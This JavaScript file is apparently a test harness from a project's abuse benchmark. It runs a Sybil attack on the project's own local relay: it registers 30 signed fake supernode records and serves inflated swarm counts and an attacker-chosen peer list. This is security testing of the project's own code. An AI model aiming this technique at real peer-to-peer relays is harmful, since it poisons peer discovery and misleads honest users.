// The Sybil attacker for bench/abuse, run as its own process (issue 20, finding 1):
//   node sybil.js PORT
// Starts FAKES small HTTP servers on the attacker's address, signs one supernode record
// (role supernode) with a fresh key for each, pointing at it, and posts all of them to the
// relay on 127.0.0.1:PORT in one POST /v1/supernodes. The fakes answer what a relay asks of
// a supernode: GET /v1/hello (the record), GET /v1/supernodes (every fake), and every
// proxied announce with a peer list of the attacker's choosing (FAKE_PEER only), so an
// honest client can tell whose answer it got. /health gives no node id, so the relay talks
// to them in clear (relay/sealed/transport.ts). Prints {"phase":"attacking"} once the post
// is answered, and on SIGTERM one JSON line: records accepted, requests the fakes served.

import { createServer, request } from 'node:http'
import { register } from 'tsx/esm/api'
import bencode from 'bencode'
import { ATTACKER, FAKE_PEER, onStop } from './shared.js'

register()
const { RecordSigner } = await import('../../relay/supernode/test-support.ts')

/** As many records as the issue posted (one POST takes up to 32). */
const FAKES = 30
const PORT = Number(process.argv[2])
if (!(PORT > 0)) {
  process.stderr.write('usage: node sybil.js PORT\n')
  process.exit(2)
}

const served = {}
const outcome = { accepted: null, post_status: null, post_error: null }
onStop(() => ({ family: 'sybil', fakes: FAKES, ...outcome, fake_requests: served }))

const announceAnswer = Buffer.from(
  bencode.encode({ complete: 9999, incomplete: 9999, interval: 1800, peers: FAKE_PEER }),
)

/** One fake supernode: answers as a relay would, with the attacker's figures. */
function fake(records, index) {
  return (req, res) => {
    const path = (req.url ?? '/').split('?')[0]
    const kind = path.startsWith('/v1/lookup/') ? 'lookup' : path.replace(/^\/(v1\/)?/, '')
    served[kind] = (served[kind] ?? 0) + 1
    req.resume()
    const json = (value) => {
      res.writeHead(200, { 'Content-Type': 'application/json' })
      res.end(JSON.stringify(value))
    }
    if (path === '/announce') {
      res.writeHead(200, { 'Content-Type': 'text/plain' })
      return void res.end(announceAnswer)
    }
    if (path === '/v1/hello') return json(records[index])
    if (path === '/v1/supernodes') return json({ supernodes: records })
    if (kind === 'lookup') {
      const swarm = { seeds: 9999, leechers: 9999, downloads: 9999 }
      return json({ owner: true, owners: [], swarm })
    }
    if (req.method === 'POST') return json({})
    res.writeHead(404)
    res.end()
  }
}

const records = []
const servers = []
for (let i = 0; i < FAKES; i++) {
  const server = createServer(fake(records, i))
  await new Promise((resolve) => server.listen(0, ATTACKER, resolve))
  servers.push(server)
}
const ts = Math.floor(Date.now() / 1000)
for (const server of servers) {
  const url = `http://${ATTACKER}:${server.address().port}`
  records.push(new RecordSigner().record({ seq: 1, ts, role: 'supernode', url }))
}

// One POST of every record, from the attacker's address.
const body = JSON.stringify({ records })
await new Promise((resolve) => {
  const req = request(
    {
      host: '127.0.0.1',
      port: PORT,
      method: 'POST',
      path: '/v1/supernodes',
      localAddress: ATTACKER,
      headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
    },
    (res) => {
      let text = ''
      res.setEncoding('utf8')
      res.on('data', (c) => (text += c))
      res.on('end', () => {
        outcome.post_status = res.statusCode
        try {
          outcome.accepted = JSON.parse(text).accepted ?? null
        } catch {
          outcome.post_error = text.slice(0, 120)
        }
        resolve()
      })
    },
  )
  req.on('error', (err) => {
    outcome.post_error = err.message
    resolve()
  })
  req.end(body)
})
process.stdout.write(JSON.stringify({ phase: 'attacking', accepted: outcome.accepted }) + '\n')
